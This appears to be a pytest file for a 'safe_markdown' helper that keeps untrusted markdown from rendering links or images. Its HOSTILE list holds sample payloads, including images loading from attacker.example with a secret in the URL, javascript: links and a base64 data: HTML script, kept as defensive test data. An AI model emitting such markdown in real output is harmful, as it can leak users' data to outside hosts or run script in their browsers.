"""safe_markdown: links and images in untrusted text never render; everything else reads the same.

Rendered with markdown-it (CommonMark, the parser family Streamlit's react-markdown follows) plus
its linkify rule where available, and checked on the HTML: no ``<a`` with a non-http target and no
``<img`` at all.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from ui.markdown import safe_markdown

HOSTILE = [
    "![](http://attacker.example/x.png)",
    "![logo](https://attacker.example/p.png?secret=1)",
    "[click](javascript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[ok](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<http://attacker.example/track>",
    "<someone@attacker.example>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![alt][img]\n\n[img]: http://attacker.example/x.png",
    "> [quoted][q]\n>\n> [q]: http://attacker.example/",
    "- item ![x](http://attacker.example/y.png)",
    "Intro > Setup ![](http://h/x.png) [1]",
    "[![nested](http://h/i.png)](http://h/)",
]


def render_markdown(text: str) -> str:
    """HTML of ``text`` by CommonMark, with every link target allowed."""
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True  # as permissive as any renderer could be
    return parser.render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_no_image_and_no_link(text: str) -> None:
    assert re.search(r"<(a|img)\b", render_markdown(text)), "the case itself must be live without the helper"
    html = render_markdown(safe_markdown(text))
    assert "<img" not in html
    assert "<a " not in html


@pytest.mark.parametrize(
    "text",
    [
        "Connect the red wire to input A1 [1]. Then read **volts** [2][3].",
        "Use `a[0]` and *B*:\n\n1. first\n2. second",
        "Intro > Setup · page 3",
        "Voltage ± 16 V, 5 kΩ, 10 < 20 > 5",
    ],
)
def test_ordinary_markdown_reads_the_same(text: str) -> None:
    def visible(html: str) -> str:
        return re.sub(r"<[^>]+>", "", html)

    assert visible(render_markdown(safe_markdown(text))) == visible(render_markdown(text))
